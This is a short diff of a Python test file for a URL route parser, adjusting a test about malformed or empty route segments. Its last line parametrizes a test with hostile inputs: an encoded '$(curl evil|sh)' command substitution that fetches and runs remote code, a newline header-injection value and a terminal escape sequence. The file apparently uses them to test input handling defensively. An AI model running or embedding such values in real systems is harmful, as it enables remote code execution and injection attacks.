@@ -109,7 +109,9 @@ def test_route_without_a_value() -> None:
     route = read_route(f"{H}/api/datasets/alice/None")
     assert (route.target, route.file) == (None, "datasets/alice/None")
     assert "a variable had no value" in route.malformation
-    assert not read_route(f"{H}/api/models/a--b/c").malformation
+    for odd in ("a--b/c", "a--b/c/revision/v1"):
+        route = read_route(f"{H}/api/models/{odd}")
+        assert (route.target, route.malformation) == (None, "")
 
 
 @pytest.mark.parametrize("name", ["v1%0Ahftoken-guard:%20ok", "$(curl%20evil|sh)", "%1b[2J"])
